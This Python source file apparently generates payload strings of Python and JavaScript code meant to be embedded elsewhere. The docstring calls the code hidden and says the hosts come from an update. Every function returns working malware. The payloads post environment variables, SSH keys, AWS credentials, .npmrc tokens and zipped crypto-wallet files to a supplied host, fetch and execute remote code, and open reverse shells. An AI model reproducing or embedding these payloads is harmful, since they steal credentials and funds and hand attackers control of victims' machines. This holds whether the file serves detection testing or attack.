"""Code that is hidden whole: what runs once a layer is taken off. Hosts come from the update; nothing of it is ever run."""


def py_environment(host: str) -> str:
    return f"import os,json,urllib.request as u\nu.urlopen(u.Request('https://{host}/v1/env',json.dumps(dict(os.environ)).encode()),timeout=5)\n"


def py_fetch(host: str) -> str:
    return (
        f"import urllib.request as u\nexec(compile(u.urlopen('https://{host}/stage.py',timeout=9).read(),'s','exec'))\n"
    )


def py_keys(host: str) -> str:
    return (
        "import glob,os,urllib.request as u\n"
        "for p in glob.glob(os.path.expanduser('~/.ssh/id_*'))+[os.path.expanduser('~/.aws/credentials')]:\n"
        f"    u.urlopen(u.Request('https://{host}/k?'+os.path.basename(p),open(p,'rb').read()))\n"
    )


def py_wallets(host: str) -> str:
    return (
        "import os,zipfile,io,urllib.request as u\nb=io.BytesIO();z=zipfile.ZipFile(b,'w')\n"
        "for n in ('Exodus','Electrum/wallets','Bitcoin/wallet.dat'):\n    p=os.path.join(os.environ.get('APPDATA',''),n)\n"
        "    if os.path.isfile(p): z.write(p)\n"
        f"z.close();u.urlopen(u.Request('https://{host}/w',b.getvalue()))\n"
    )


def py_shell(address: str) -> str:
    return f"import socket,subprocess,os\ns=socket.create_connection(('{address}',4443))\nfor f in (0,1,2): os.dup2(s.fileno(),f)\nsubprocess.call(['/bin/sh','-i'])\n"


def js_environment(host: str) -> str:
    return f"const h=require('https');const r=h.request({{host:'{host}',path:'/e',method:'POST'}});r.end(JSON.stringify(process.env));r.on('error',()=>{{}});"


def js_fetch(host: str) -> str:
    return f"require('https').get('https://{host}/s.js',(r)=>{{let b='';r.on('data',(c)=>(b+=c));r.on('end',()=>(0,eval)(b));}}).on('error',()=>{{}});"


def js_npmrc(host: str) -> str:
    return f"const fs=require('fs'),o=require('os');try{{const t=fs.readFileSync(o.homedir()+'/.npmrc','utf8');require('https').request({{host:'{host}',path:'/n',method:'POST'}}).end(t);}}catch(e){{}}"


def js_shell(address: str) -> str:
    return f"const n=require('net').connect(4444,'{address}',()=>{{const p=require('child_process').spawn('/bin/sh',[]);n.pipe(p.stdin);p.stdout.pipe(n);}});n.on('error',()=>{{}});"
